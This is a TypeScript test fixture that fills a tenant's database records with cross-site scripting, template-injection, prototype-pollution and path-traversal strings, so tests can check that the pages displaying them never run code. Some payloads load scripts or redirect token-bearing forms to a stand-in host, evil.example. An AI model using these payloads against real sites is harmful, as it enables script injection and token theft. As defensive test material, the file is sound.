/** Texts that attack a page which shows them: each calls `stolen()` if a browser reads any part of it as code. */

import type { TextDatabase } from '../../tools/text-database.ts'
import { addTenant, type Tenant } from './database.ts'
import { load } from './load.ts'

const CALL = 'stolen(1)'

/** Elements that run by themselves, what leaves an attribute or element, addresses, and names that programs trip over. */
export const SHAPES = [
  `<img src=x onerror=${CALL}>`,
  `"><img src=x onerror="${CALL}" class=injected>`,
  `'><svg onload=${CALL}>`,
  `</script><script>${CALL}</script>`,
  `</title><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `--></a></textarea><details open ontoggle=${CALL}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<style>@import 'data:,*{background:url(javascript:${CALL})}'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example/><input name=token autofocus onfocus=${CALL}></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<plaintext>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `//evil.example/%0a${CALL}`,
  `" style="animation:x" onanimationstart="${CALL}`,
  `' onfocus='${CALL}' autofocus tabindex=1 '`,
  `\${${CALL}}{{constructor.constructor('${CALL}')()}}<%= ${CALL} %>`,
  `\\";${CALL}//`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `\u202e<img src=x onerror=${CALL}>`,
  `${'<b>'.repeat(500)}<img src=x onerror=${CALL}>`,
  'A'.repeat(4_000),
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'undefined', 'null'],
  ...['[object Object]', '../../clients/1', '?state=ok#x'],
]

/** A fleet in which every text that others write is one of the shapes, or all of them. */
export async function loadMarkup(database: TextDatabase): Promise<Tenant> {
  const tenant = await addTenant(database)
  for (const statement of STATEMENTS) await load(database, statement, [tenant.accountId, SHAPES])
  return tenant
}

/** Of each: $1 account bigint, $2 shapes text[]. */
const STATEMENTS = [
  `with named as (
     insert into organization (name) select shape from unnest($2::text[]) shape where $1::bigint > 0 returning id, name
   )
   insert into official_account (organization_id, name, channel_id, channel_secret, bot_user_id, basic_id, verification,
                                 verified_at, foreign_destination, foreign_destination_at)
   select id, name, name, 'secret', name, name,
          jsonb_build_object('verified', false, 'account', null, 'accountType', 'unknown', 'webhook', null,
            'checks', jsonb_build_array(jsonb_build_object('name', name, 'ok', false, 'message', name)),
            'checkedAt', '2026-01-01T00:00:00.000Z'),
          now(), name, now()
     from named`,
  `insert into audience_member (channel_oa_id, organization_id, user_id, display_name, picture_url, language, conversation_id,
                                conversation_status, conversation_at, external_id, tags, attributes, profile_due_at)
   select $1, a.organization_id, shape, shape, shape, left(shape, 20), shape, shape, now(), shape, array[shape],
          jsonb_build_object(shape, shape, '__proto__', jsonb_build_object('polluted', shape), 'constructor', shape), null
     from official_account a, unnest($2::text[]) shape where a.id = $1`,
  `update audience_member
      set tags = $2::text[], attributes = (select jsonb_object_agg(shape, shape) from unnest($2::text[]) shape)
    where channel_oa_id = $1 and id = (select min(id) from audience_member)`,
  `insert into event (channel_oa_id, source, kind, key, occurred_at, user_id, payload, failure, is_forwarded)
   select $1, shape, shape, gen_random_uuid(), now(), shape, to_json($2::text[])::text, shape, true
     from unnest($2::text[]) shape`,
  `insert into event (channel_oa_id, source, kind, key, occurred_at, user_id, payload)
   select $1, shape, shape, gen_random_uuid(), now(), (select user_id from audience_member where channel_oa_id = $1 order by id limit 1), shape
     from unnest($2::text[]) shape`,
  `with added as (
     insert into endpoint (channel_oa_id, name, url, status, events)
     select case when position <= 20 then $1 else a.id end, shape, shape, shape, array[shape]
       from unnest($2::text[]) with ordinality as s (shape, position) join official_account a on a.name = shape
      order by position returning id, name
   )
   insert into endpoint_answer (endpoint_id, answered_at, status, answer) select id, now(), 500, name from added`,
  `insert into endpoint_delivery (channel_oa_id, endpoint_id, type, attempts, failed_at, status, answer)
   select $1, (select min(id) from endpoint), shape, 1, now(), 500, shape from unnest($2::text[]) shape`,
  `insert into api_client (client_id, client_secret, name, status)
   select shape, shape, shape, shape from unnest($2::text[]) shape where $1::bigint > 0`,
  `insert into api_key (api_client_id, key, status, channel_oa_id, organization_id)
   select (select min(id) from api_client), shape, shape, a.id, a.organization_id
     from official_account a join unnest($2::text[]) shape on a.name = shape where $1::bigint > 0`,
]
